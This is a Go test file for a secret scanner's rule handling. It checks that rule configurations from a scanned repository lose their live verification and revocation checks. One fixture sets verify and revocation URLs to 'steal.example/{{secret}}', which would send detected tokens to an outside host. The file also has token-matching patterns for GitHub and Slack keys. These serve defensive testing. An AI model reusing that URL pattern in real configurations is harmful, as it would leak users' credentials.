package rules

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// distrusted returns the built-in rules as a configuration in a scanned place
// changes them, and the rules that lost a check by that.
func distrusted(t *testing.T, text string) (set *Set, lost []string) {
	t.Helper()
	set, err := Parse("mudlark.toml", []byte("[extend]\nuseDefault = true\n"+text))
	if err != nil {
		t.Fatal(err)
	}
	return set, set.Distrust()
}

// changed is the text that changes a rule.
func changed(id, text string) string { return "[[rules]]\nid = \"" + id + "\"\n" + text + "\n" }

func TestDistrustWithholdsChecksOfRulesThatFindSomethingElse(t *testing.T) {
	for _, test := range []struct {
		id, change string
		withheld   bool
	}{
		{"github-pat", `regex = '''ghp_\w+'''`, true},
		{"github-pat", `keywords = ["ghp_"]` + "\nregex = '''xoxb-[0-9A-Za-z-]+'''", true},
		{"github-pat", `keywords = ["token"]`, true},
		{"github-pat", `path = '''\.env$'''`, true},
		{"github-pat", "entropy = 0.1", true},
		{"github-pat", "specificity = 99", true},
		{"github-pat", "secretGroup = 1\nregex = '''(ghp_[0-9A-Za-z]{36})'''", true},
		{"amplitude-secret-key", `key = '''password'''`, true},
		{"amplitude-secret-key", `companions = ["github-pat"]`, true},
		{"github-pat", `description = "A token"`, false},
		{"github-pat", `severity = "low"`, false},
		{"github-pat", `confidence = "low"`, false},
		{"github-pat", `tags = ["ours"]`, false},
		{"github-pat", "[[rules.allowlists]]\npaths = ['''testdata/''']", false},
	} {
		set, lost := distrusted(t, changed(test.id, test.change))
		r := set.Rule(test.id)
		switch {
		case r.Verify == nil:
			t.Errorf("%s: its check is gone, as if nobody could be asked", test.change)
		case test.withheld && (r.Verify.With != Withheld || r.Verify.URL != "" || !r.Foreign || r.Revocation != nil):
			t.Errorf("%s: check %+v, foreign: %t, revocation: %v", test.change, r.Verify, r.Foreign, r.Revocation)
		case test.withheld && !slices.Contains(lost, test.id):
			t.Errorf("%s: lost %v", test.change, lost)
		case !test.withheld && (r.Verify.With == Withheld || r.Foreign || len(lost) > 0):
			t.Errorf("%s: check %+v, foreign: %t, lost %v", test.change, r.Verify, r.Foreign, lost)
		}
		if other := set.Rule("slack-bot-token"); other.Verify.With == Withheld || other.Foreign {
			t.Errorf("%s: another rule lost its check", test.change)
		}
	}
}

func TestDistrustWithholdsChecksThatTakePartsFromChangedRules(t *testing.T) {
	set, lost := distrusted(t, changed("amplitude-api-key", `regex = '''ghp_[0-9A-Za-z]{36}'''`))
	if fmt.Sprint(lost) != "[amplitude-secret-key]" {
		t.Errorf("lost %v", lost)
	}
	for _, id := range []string{"amplitude-api-key", "amplitude-secret-key"} {
		if !set.Rule(id).Foreign {
			t.Errorf("%s does not say that it comes from what is scanned", id)
		}
	}
	if c := set.Rule("amplitude-secret-key").Verify; c == nil || c.With != Withheld {
		t.Errorf("its check is %+v", c)
	}
	for i := range set.Rules {
		r := &set.Rules[i]
		if r.Verify != nil && r.Verify.With != Withheld && slices.Contains(r.Verify.Needs(), "amplitude-api-key") {
			t.Errorf("%s takes a part from it, and is asked", r.ID)
		}
	}
}

func TestDistrustTakesWhatTheScannedPlaceSaysOfAsking(t *testing.T) {
	set, lost := distrusted(t, `
[verify]
hosts = ["steal.example"]
[[rules]]
id = "ours"
description = "Ours"
regex = '''ours_[0-9a-z]{32}'''
keywords = ["ours_"]
[rules.verify]
url = "https://steal.example/{{secret}}"
active = { status = [200] }
[rules.revocation]
method = "POST"
url = "https://steal.example/{{secret}}"
done = { status = [200] }
[[rules]]
id = "github-pat"
[rules.verify]
url = "https://steal.example/{{secret}}"
active = { status = [200] }
`)
	slices.Sort(lost)
	if fmt.Sprint(lost) != "[github-pat ours]" || set.Policy != nil {
		t.Errorf("lost %v, policy %+v", lost, set.Policy)
	}
	if r := set.Rule("ours"); r.Verify != nil || r.Revocation != nil || !r.Foreign || !r.Info().Foreign {
		t.Errorf("got %+v", r)
	}
	if r := set.Rule("github-pat"); r.Verify == nil || r.Verify.With != Withheld || r.Revocation != nil || !r.Info().Foreign {
		t.Errorf("got %+v", r)
	}
}

func TestDistrustOfTheBuiltinRulesLosesNothing(t *testing.T) {
	set, lost := distrusted(t, "disabledRules = [\"slack-bot-token\"]\n")
	if len(lost) > 0 {
		t.Errorf("lost %v", lost)
	}
	for i := range set.Rules {
		if set.Rules[i].Foreign {
			t.Errorf("%s is said to come from what is scanned", set.Rules[i].ID)
		}
	}
}

func TestWithholdLeavesTheBuiltinRulesAsTheyAre(t *testing.T) {
	set := Builtin()
	lost := set.Withhold([]string{"github-pat", "amplitude-api-key", "there is none"})
	slices.Sort(lost)
	if fmt.Sprint(lost) != "[amplitude-secret-key github-pat]" || set.Rule("github-pat").Verify.With != Withheld {
		t.Errorf("lost %v", lost)
	}
	own := Builtin(Sets()...)
	for _, id := range append(lost, "amplitude-api-key") {
		if r := own.Rule(id); r.Foreign || r.Verify != nil && r.Verify.With == Withheld {
			t.Errorf("%s is changed for all", id)
		}
	}
}

func TestExtendedFileIsTheOneBesideItsConfiguration(t *testing.T) {
	trusted, scanned := t.TempDir(), t.TempDir()
	write := func(folder, name, text string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(folder, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	rule := func(id string) string {
		return changed(id, "description = \"d\"\nregex = '''acme_[0-9a-z]{32}'''\nkeywords = [\"acme_\"]")
	}
	write(trusted, "mudlark.toml", "[extend]\npath = \"base.toml\"\n")
	write(scanned, "base.toml", rule("scanned"))
	t.Chdir(scanned)
	for _, want := range []string{"scanned", "trusted"} { // there is none beside it, then there is
		set, err := Load(filepath.Join(trusted, "mudlark.toml"))
		if err != nil {
			t.Fatal(err)
		}
		if len(set.Rules) != 1 || set.Rules[0].ID != want {
			t.Errorf("got rules %v, want the one of %s", ids(set), want)
		}
		write(trusted, "base.toml", rule("trusted"))
	}
}

func ids(set *Set) string {
	var list []string
	for i := range set.Rules {
		list = append(list, set.Rules[i].ID)
	}
	return strings.Join(list, " ")
}
